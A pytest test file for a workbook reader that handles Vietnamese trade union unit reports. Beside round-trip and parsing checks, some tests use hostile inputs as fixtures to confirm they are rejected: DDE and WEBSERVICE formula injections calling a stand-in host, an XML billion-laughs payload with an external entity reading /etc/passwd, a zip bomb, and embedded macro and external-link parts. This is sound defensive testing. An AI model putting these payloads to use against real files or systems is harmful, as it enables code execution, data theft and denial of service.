"""A unit's workbook: handed out, filled in, read back whole; and every way a clerk, or somebody worse, can spoil it."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from monitor.config.period import parse
from monitor.errors import InputError
from monitor.labels import wording
from monitor.model.people import FEDERATION, Unit, UnitKind
from monitor.model.report import Span
from monitor.model.unit_report import Every, FieldTotal, UnitField, UnitReportRules, Wording
from monitor.report.unit_book import as_book, read_book, without_notes
from monitor.report.unit_book_file import MOST_BYTES
from monitor.text import nfc

FIELDS = (
    UnitField(id="items", label="Tin, bài nhắc tên đơn vị", unit="tin, bài", group="Theo dõi", known="items"),
    UnitField(id="cases", label="Vụ việc phát sinh trong kỳ", unit="vụ việc", group="Theo dõi", known="cases_opened"),
    UnitField(id="classes", label="Lớp tập huấn", unit="lớp", group="Tập huấn"),
    UnitField(id="talks", label="Cuộc họp báo", unit="cuộc", group="Tập huấn", federation=True),
)
RULES = UnitReportRules(
    every=Every.HALF, kinds=("zone",), due_days=10, remind_days=(), remind_late_days=0, fields=FIELDS
)
KCN = Unit(id="kcn", name="Công đoàn các Khu công nghiệp tỉnh", kind=UnitKind.ZONE, parent=FEDERATION)
MAY = Unit(id="may", name="Công đoàn cơ sở Công ty May Bình Minh", kind=UnitKind.GRASSROOTS, parent="kcn")
SPAN = parse("2026H1")
NOW = datetime(2026, 7, 1, 2, tzinfo=UTC)
VALUES = {"items": 12, "cases": 0, "classes": 1234}
TEXT = {Wording.WORK: "- Tổ chức 3 lớp\n=1+1 không phải công thức", Wording.PROPOSALS: "Không."}
ROWS = {"items": 11, "cases": 12, "classes": 14}
"""Where the figures stand: seven lines of heading, a gap, the heads, a line for each group."""


def book(unit: Unit = KCN, span: Span = SPAN, **more: Any) -> bytes:
    facts: dict[str, Any] = {"values": VALUES, "known": {"items": 12, "cases": 2}, "words": TEXT, "made": NOW}
    return as_book(RULES, unit=unit, span=span, office="Liên đoàn Lao động tỉnh Lào Cai", **facts | more)


def changed(change: Callable[[Any], object], data: bytes | None = None) -> bytes:
    """The form after somebody did this to it in a program like Excel."""
    opened = load_workbook(BytesIO(data or book()))
    change(opened)
    made = BytesIO()
    opened.save(made)
    return made.getvalue()


def put(cell: str, value: object, sheet: str = "Số liệu") -> bytes:
    def change(opened: Any) -> None:
        opened[sheet][cell] = value

    return changed(change)


def rewritten(change: Callable[[str, bytes], bytes | None], data: bytes | None = None, **more: bytes) -> bytes:
    """The form with its parts changed one by one (None drops one), and others added."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(data or book())) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if (raw := change(name, old.read(name))) is not None:
                new.writestr(name, raw)
        for name, raw in more.items():
            new.writestr(name.replace("__", "/"), raw)
    return made.getvalue()


def with_part(name: str, raw: bytes = b"x") -> bytes:
    return rewritten(lambda _, same: same, **{name.replace("/", "__"): raw})


def refused(data: bytes, name: str = "bao-cao.xlsx", **expected: Any) -> str:
    with pytest.raises(InputError) as told:
        read_book(data, name, RULES, **expected)
    said = wording(told.value)
    assert "{" not in said
    return said


def mistakes(data: bytes, **expected: Any) -> tuple[str, ...]:
    with pytest.raises(InputError) as told:
        read_book(data, "bao-cao.xlsx", RULES, **expected)
    assert told.value.key == "book_mistakes", wording(told.value)
    return tuple(line.removeprefix("– ") for line in str(told.value.facts["said"]).split("\n"))


# What comes back is what went out.


def test_what_was_written_is_read_back() -> None:
    read = read_book(book(), "bao-cao.xlsx", RULES, span=SPAN, unit=KCN)
    assert (read.unit, read.first, read.last) == ("kcn", date(2026, 1, 1), date(2026, 6, 30))
    assert dict(read.values) == VALUES
    assert dict(read.words) == TEXT
    assert not read.total


words = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cn", "Co")), max_size=60).map(str.strip)


@settings(max_examples=12, deadline=None)
@given(
    st.dictionaries(st.sampled_from(["items", "cases", "classes"]), st.integers(0, 999_999_999), min_size=1),
    st.dictionaries(st.sampled_from(list(Wording)), words.filter(bool)),
)
def test_any_report_survives_the_way_out_and_back(values: dict[str, int], said: dict[Wording, str]) -> None:
    read = read_book(book(values=values, words=said), "a.xlsx", RULES)
    assert dict(read.values) == values
    assert dict(read.words) == {key: nfc(one) for key, one in said.items()}


def test_a_field_of_the_federation_is_asked_of_it_alone() -> None:
    office = Unit(id=FEDERATION, name="Liên đoàn", kind=UnitKind.FEDERATION)
    assert dict(read_book(book(office, values={"talks": 4}), "a.xlsx", RULES).values) == {"talks": 4}
    assert "talks" not in dict(read_book(book(values={"talks": 4, "items": 1}), "a.xlsx", RULES).values)


def test_only_what_is_to_be_filled_in_is_unlocked_and_no_cell_is_a_formula() -> None:
    hostile = replace(KCN, name='=HYPERLINK("http://x.test")')
    opened = load_workbook(BytesIO(book(hostile, words={Wording.WORK: "=cmd|' /c calc'!A0"})))
    assert opened.sheetnames == ["Số liệu", "Nội dung", "Hướng dẫn"]
    figures, text = opened["Số liệu"], opened["Nội dung"]
    free = {cell.coordinate for row in figures.iter_rows() for cell in row if not cell.protection.locked}
    assert free == {f"{column}{row}" for row in ROWS.values() for column in "DF"}
    assert len([1 for row in text.iter_rows() for cell in row if not cell.protection.locked]) == len(Wording)
    assert all(sheet.protection.sheet and not sheet.protection.password for sheet in opened)
    assert {cell.data_type for sheet in opened for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    assert figures.freeze_panes == "A10"
    assert figures.page_setup.fitToWidth == 1
    (rule,) = figures.data_validations.dataValidation
    assert (rule.type, rule.formula1) == ("whole", "0")
    assert all("D" + str(row) in rule.sqref for row in ROWS.values())
    assert figures.column_dimensions["G"].hidden
    assert "10/07/2026" in figures["A5"].value


def test_the_counted_figures_stand_beside_and_are_never_read() -> None:
    data = put(f"E{ROWS['items']}", "ai sửa cũng được")
    assert dict(read_book(data, "a.xlsx", RULES).values) == VALUES


def test_a_total_tells_its_parts_and_comes_in_only_where_nobody_adds_those_below() -> None:
    totals = [
        FieldTotal(field=FIELDS[0], own=2, below=5, reported=3),
        FieldTotal(field=FIELDS[1], own=None, below=None, reported=0),
    ]
    data = book(kind="total", totals=totals)
    parts = load_workbook(BytesIO(data))["Tổng hợp"]
    assert [cell.value for cell in parts[9]][3:] == [2, 5, 7, 3]
    (said,) = mistakes(data)
    assert "biểu tổng hợp" in said
    read = read_book(data, "a.xlsx", RULES, totals=True)
    assert read.total
    assert dict(read.values) == {"items": 7}


def test_what_is_noted_beside_a_figure_is_kept_with_the_words() -> None:
    read = read_book(put(f"F{ROWS['cases']}", "một vụ chuyển sang kỳ sau"), "a.xlsx", RULES)
    assert dict(read.words)[Wording.WORK].endswith("“Vụ việc phát sinh trong kỳ”: một vụ chuyển sang kỳ sau")


def test_notes_are_told_from_what_the_unit_wrote_itself() -> None:
    read = read_book(put(f"F{ROWS['cases']}", "một vụ chuyển\nsang kỳ sau"), "a.xlsx", RULES)
    noted = dict(read.words)[Wording.WORK]
    assert noted != without_notes(noted) == TEXT[Wording.WORK]
    assert without_notes("Ghi chú ở chỉ tiêu “Số vụ”: tạm tính") == ""
    assert without_notes("Đã mở lớp.\n\nGhi chú: thêm một lớp") == "Đã mở lớp.\n\nGhi chú: thêm một lớp"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not on this machine")
def test_it_survives_being_saved_by_libreoffice(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.xlsx").write_bytes(book())
    done = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to", "xlsx",
         "--outdir", str(tmp_path), str(tmp_path / "in" / "a.xlsx")],
        capture_output=True, timeout=120, check=False,
    )  # fmt: skip
    saved = tmp_path / "a.xlsx"
    if not saved.exists():
        pytest.skip(f"LibreOffice converts nothing here: {done.stderr[-200:]!r}")
    read = read_book(saved.read_bytes(), "a.xlsx", RULES, span=SPAN, unit=KCN)
    assert dict(read.values) == VALUES
    assert dict(read.words) == TEXT


# Figures as clerks write them.


@pytest.mark.parametrize(
    ("said", "meant"),
    [(12.0, 12), ("12", 12), (" 12 ", 12), ("1.234", 1234), ("\u00a07", 7), (0, 0), ("1.234.567", 1234567)],
)  # fmt: skip
def test_a_whole_number_is_taken_however_a_program_wrote_it(said: object, meant: int) -> None:
    assert dict(read_book(put(f"D{ROWS['items']}", said), "a.xlsx", RULES).values)["items"] == meant


@pytest.mark.parametrize("said", [None, "", "   "])
def test_an_empty_cell_is_no_figure(said: object) -> None:
    assert "items" not in dict(read_book(put(f"D{ROWS['items']}", said), "a.xlsx", RULES).values)


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("mười hai", "“mười hai” không phải con số"),
        ("12 bài", "“12 bài” không phải con số"),
        (-3, "số âm"),
        ("-3", "số âm"),
        (1.5, "“1,5” là số lẻ"),
        (1.234, "ghi 1234"),
        ("1,5", "số lẻ"),
        ("1,234", "ghi 1234"),
        ("1.23.4", "không phải con số"),
        (date(2026, 3, 12), "“12/03/2026” là ngày tháng"),
        ("12/3/2026", "ngày tháng"),
        (True, "TRUE, FALSE"),
        (10**12, "quá lớn"),
        ("9" * 400, "không phải con số"),
        ("=D12+1", "công thức"),
        ("=WEBSERVICE(\"http://x.test/\"&D12)", "từ mạng"),
        ("=HYPERLINK(\"http://x.test\",\"12\")", "từ mạng"),
        ("=cmd|'/c calc'!A0", "từ mạng"),
        ("='[so-lieu.xlsx]Tháng 1'!B2", "từ tệp khác"),
    ],
)  # fmt: skip
def test_what_is_no_count_is_told_by_sheet_and_cell(said: object, told: str) -> None:
    (line,) = mistakes(put(f"D{ROWS['items']}", said))
    assert line.startswith(f"Trang tính “Số liệu”, ô D{ROWS['items']}: ")
    assert told in line


def test_an_error_of_the_program_is_no_figure() -> None:
    def spoiled(name: str, raw: bytes) -> bytes:
        place = f'r="D{ROWS["items"]}"'.encode()
        return re.sub(b"<c " + place + rb'([^>]*?) t="n">.*?</c>', b"<c " + place + rb'\1 t="e"><v>#REF!</v></c>', raw)

    (line,) = mistakes(rewritten(spoiled))
    assert "báo lỗi “#REF!”" in line


def test_a_formula_that_calls_out_is_found_on_any_sheet_and_in_any_rule() -> None:
    def sheet(opened: Any) -> None:
        opened.create_sheet("Nháp")["C4"] = '=IMPORTXML("http://x.test","//a")'

    (line,) = mistakes(changed(sheet))
    assert line.startswith("Trang tính “Nháp”, ô C4: ")

    def rule(opened: Any) -> None:
        opened["Số liệu"].data_validations.dataValidation[0].formula1 = 'WEBSERVICE("http://x.test")'

    assert "liên kết lấy dữ liệu" in refused(changed(rule))


def test_a_sheet_of_their_own_is_left_alone() -> None:
    def change(opened: Any) -> None:
        opened.create_sheet("Nháp")["A1"] = "=SUM(B1:B9)"
        opened.create_sheet("Ẩn").sheet_state = "hidden"

    assert dict(read_book(changed(change), "a.xlsx", RULES).values) == VALUES


def test_all_mistakes_are_told_at_once_and_of_many_the_first_twenty() -> None:
    def change(opened: Any) -> None:
        sheet = opened["Số liệu"]
        sheet[f"D{ROWS['items']}"], sheet[f"D{ROWS['cases']}"], sheet[f"D{ROWS['classes']}"] = "x", -1, 1.5
        opened["Nội dung"]["A6"] = "=1+1"

    told = mistakes(changed(change), span=parse("2025H1"), unit=MAY)
    assert len(told) == 6
    assert [re.sub(":.*", "", line) for line in told][2:] == [
        *(f"Trang tính “Số liệu”, ô D{row}" for row in ROWS.values()), "Trang tính “Nội dung”, ô A6",
    ]  # fmt: skip

    def many(opened: Any) -> None:
        for row in range(20, 60):
            opened["Số liệu"][f"B{row}"], opened["Số liệu"][f"D{row}"] = f"Chỉ tiêu {row}", 3

    told = mistakes(changed(many))
    assert len(told) == 21
    assert told[-1] == "… và 20 chỗ khác."
    assert "ô D20: dòng “Chỉ tiêu 20” được thêm vào" in told[0]


# Whose, on what days, and is all of it there?


def test_another_period_and_another_unit_are_told() -> None:
    (line,) = mistakes(book(), span=parse("2026H2"))
    assert line.startswith("Trang tính “Số liệu”, ô A7: biểu này của kỳ từ 01/01/2026 đến 30/06/2026")
    (line,) = mistakes(book(), unit=MAY)
    assert "mã “kcn”" in line
    assert MAY.name in line


def _row(cell: str, value: object) -> Callable[[Any], None]:
    def change(opened: Any) -> None:
        opened["Số liệu"][cell] = value

    return change


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (_row("G12", "khac"), "Trang tính “Số liệu”, ô B12: dòng “Vụ việc phát sinh trong kỳ” không có trong biểu"),
        (_row("G12", "items"), "ô B12: “Tin, bài nhắc tên đơn vị” có hai dòng (dòng trước là dòng 11)"),
        (_row("G12", None), "Trang tính “Số liệu”: thiếu dòng “Vụ việc phát sinh trong kỳ”"),
        (lambda opened: opened["Số liệu"].delete_cols(7), "cột G đang ẩn đã bị xóa"),
        (lambda opened: opened["Số liệu"].merge_cells("D11:E12"), "ô D11: ô bị gộp với ô khác (D11:E12)"),
        (lambda opened: opened["Nội dung"].merge_cells("A5:A7"), "Trang tính “Nội dung”, ô A6: ô bị gộp"),
        (lambda opened: opened.remove(opened["Nội dung"]), "Trang tính “Nội dung”: thiếu trang tính này"),
        (lambda opened: setattr(opened["Nội dung"], "title", "Sheet2"), "“Sheet2”: trang tính đã bị đổi tên"),
        (lambda opened: setattr(opened["Số liệu"], "title", "Sheet1"), "đặt lại tên là “Số liệu”"),
        (lambda opened: setattr(opened["Số liệu"], "sheet_state", "hidden"), "đang bị ẩn"),
        (lambda opened: opened.copy_worksheet(opened["Nội dung"]), "thêm một trang tính phần nội dung"),
        (lambda opened: opened["Nội dung"].__setitem__("A20", "viết thêm"), "ô A20: chữ “viết thêm” nằm ngoài ô nhập"),
        (lambda opened: opened["Nội dung"].__setitem__("B8", None), "thiếu dòng “Khó khăn, vướng mắc”"),
        (lambda opened: opened["Nội dung"].__setitem__("A8", "x" * 6000), "ô A8: nội dung dài quá 5.000"),
    ],
)  # fmt: skip
def test_a_form_that_was_changed_in_its_shape_is_told_where(change: Callable[[Any], object], told: str) -> None:
    assert any(told in line for line in mistakes(changed(change))), mistakes(changed(change))


def test_a_sheet_missing_twice_there_or_without_its_mark_is_told() -> None:
    assert "không có trang tính “Số liệu”" in refused(changed(lambda opened: opened.remove(opened["Số liệu"])))
    assert "“Số liệu”, “Số liệu Copy”" in refused(changed(lambda opened: opened.copy_worksheet(opened["Số liệu"])))
    assert "không còn dòng “Mã biểu”" in refused(put("A7", "Mã biểu"))
    assert "không còn dòng “Mã biểu”" in refused(put("A7", "BCDV1:bieu:kcn:2026-02-31:2026-06-30"))
    assert "phiên bản mới hơn" in refused(put("A7", "BCDV9:bieu:kcn:2026-01-01:2026-06-30"))


def test_an_empty_form_is_no_report() -> None:
    (line,) = mistakes(book(values={}, words={}))
    assert "chưa điền" in line


def test_a_name_in_other_letters_of_the_same_looks_is_the_same_sheet() -> None:
    import unicodedata

    data = changed(lambda opened: setattr(opened["Nội dung"], "title", unicodedata.normalize("NFD", "NỘI DUNG")))
    assert dict(read_book(data, "a.xlsx", RULES).words) == TEXT


# Files that are something else, or worse.


def _docx() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as new:
        new.writestr("[Content_Types].xml", "<Types/>")
        new.writestr("word/document.xml", "<w/>")
    return made.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


@pytest.mark.parametrize(
    ("data", "name", "told"),
    [
        (b"", "a.xlsx", "rỗng"),
        (b"STT;so\n1;2\n", "a.csv", "tệp chữ hoặc tệp CSV"),
        (b"\xef\xbb\xbf<html><table><tr><td>1</td></tr></table>", "a.xlsx", "trang web (HTML)"),
        (b"%PDF-1.7", "a.xlsx", "tệp PDF"),
        (b"<?xml version='1.0'?><Workbook/>", "a.xlsx", "tệp XML"),
        (b"\xff\xd8\xff\xe0\0\0", "a.xlsx", "tệp ảnh"),
        (OLE + "Workbook".encode("utf-16-le"), "a.xls", "kiểu cũ"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "a.xlsx", "mật khẩu"),
        (_docx(), "a.xlsx", "tệp Word"),
        (b"PK\x03\x04" + b"\0" * 40, "a.xlsx", "bị hỏng"),
        (b"x", "~$bao-cao.xlsx", "khóa tạm"),
        (b"x", "C:\\so lieu\\.~lock.a.xlsx#", "khóa tạm"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_a_file_that_is_no_workbook_says_what_it_is(data: bytes, name: str, told: str) -> None:
    assert told in refused(data, name)


@pytest.mark.parametrize(
    ("part", "told"),
    [
        ("xl/vbaProject.bin", "macro"),
        ("xl/macrosheets/sheet1.xml", "macro"),
        ("xl/externalLinks/externalLink1.xml", "liên kết lấy dữ liệu"),
        ("xl/connections.xml", "liên kết lấy dữ liệu"),
        ("xl/embeddings/oleObject1.bin", "đối tượng nhúng"),
        ("xl/activeX/activeX1.bin", "đối tượng nhúng"),
    ],
)
def test_a_workbook_that_may_act_is_refused_under_any_name(part: str, told: str) -> None:
    assert told in refused(with_part(part))


def test_a_macro_workbook_is_known_by_its_kind_and_a_reference_elsewhere_by_its_relation() -> None:
    def kind(name: str, raw: bytes) -> bytes:
        return raw.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")

    assert "macro" in refused(rewritten(kind), "a.xlsm")
    link = (
        b'<Relationships xmlns="x"><Relationship Id="r" Type="x/attachedTemplate" Target="http://x.test/a" '
        b'TargetMode="External"/></Relationships>'
    )
    assert "liên kết lấy dữ liệu" in refused(with_part("xl/worksheets/_rels/sheet9.xml.rels", link))


def test_an_address_somebody_may_click_is_no_danger() -> None:
    def change(opened: Any) -> None:
        opened["Nội dung"]["A6"] = "Xem http://x.test"
        opened["Nội dung"]["A6"].hyperlink = "http://x.test"

    assert dict(read_book(changed(change), "a.xlsx", RULES).words)[Wording.WORK] == "Xem http://x.test"


def test_a_hundred_megabytes_are_refused_before_anything_is_opened() -> None:
    assert "lớn hơn 10 MB" in refused(b"PK\x03\x04" + bytes(MOST_BYTES))
    assert "mở ra quá lớn" in refused(_bomb(100 * 2**20))


def _bomb(size: int) -> bytes:
    """A small file that says it holds that much."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new, new.open("xl/media/a.png", "w") as stream:
        for _ in range(size // 2**20):
            stream.write(bytes(2**20))
    return made.getvalue()


def test_a_directory_that_lies_about_sizes_gives_no_more_than_it_says() -> None:
    data = rewritten(lambda name, raw: raw + bytes(2**20) if name == "xl/styles.xml" else raw)
    raw = bytearray(data)
    with zipfile.ZipFile(BytesIO(data)) as made:
        told = made.getinfo("xl/styles.xml").file_size
    lying = bytes(raw.replace(told.to_bytes(4, "little"), (100).to_bytes(4, "little")))
    assert "bị hỏng" in refused(lying)


def test_very_many_cells_or_parts_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("monitor.report.unit_book_cells._MOST_CELLS", 1000)
    row = b"".join(b"<row>" + b"<c><v>1</v></c>" * 50 + b"</row>" for _ in range(21))
    data = rewritten(lambda name, raw: raw.replace(b"<sheetData>", b"<sheetData>" + row) if "sheet3" in name else raw)
    assert "quá nhiều ô" in refused(data)
    made = BytesIO(book())
    with zipfile.ZipFile(made, "a") as more:
        for number in range(1001):
            more.writestr(f"xl/media/{number}", b"")
    assert "mở ra quá lớn" in refused(made.getvalue())


def test_a_merge_over_the_whole_sheet_costs_nothing() -> None:
    whole = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    data = rewritten(
        lambda name, raw: raw.replace(b"</worksheet>", whole) if name == "xl/worksheets/sheet1.xml" else raw
    )
    assert any("bị gộp" in line for line in mistakes(data))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_unread(encoding: str) -> None:
    laughs = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + '<!ENTITY z SYSTEM "file:///etc/passwd">]><sst><si><t>&j;&z;</t></si></sst>'
    ).encode(encoding)
    assert "bị hỏng" in refused(rewritten(lambda name, raw: laughs if name == "xl/styles.xml" else raw))


@pytest.mark.parametrize(
    "gone", ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels", "[Content_Types].xml"]
)
def test_a_workbook_with_a_part_gone_is_told(gone: str) -> None:
    said = refused(rewritten(lambda name, raw: None if name == gone else raw))
    assert "bị hỏng" in said or "tệp nén" in said


def test_a_workbook_cut_short_or_with_wrong_bytes_is_told() -> None:
    data = book()
    for n in range(50, len(data), 997):
        refused(data[:n])
    for n in range(40, len(data), 499):
        try:
            read_book(data[:n] + bytes([data[n] ^ 0xFF]) + data[n + 1 :], "a.xlsx", RULES)
        except InputError:
            continue


def test_another_workbook_altogether_has_no_sheet_of_ours() -> None:
    opened, made = Workbook(), BytesIO()
    opened.save(made)
    assert "không có trang tính “Số liệu”" in refused(made.getvalue())
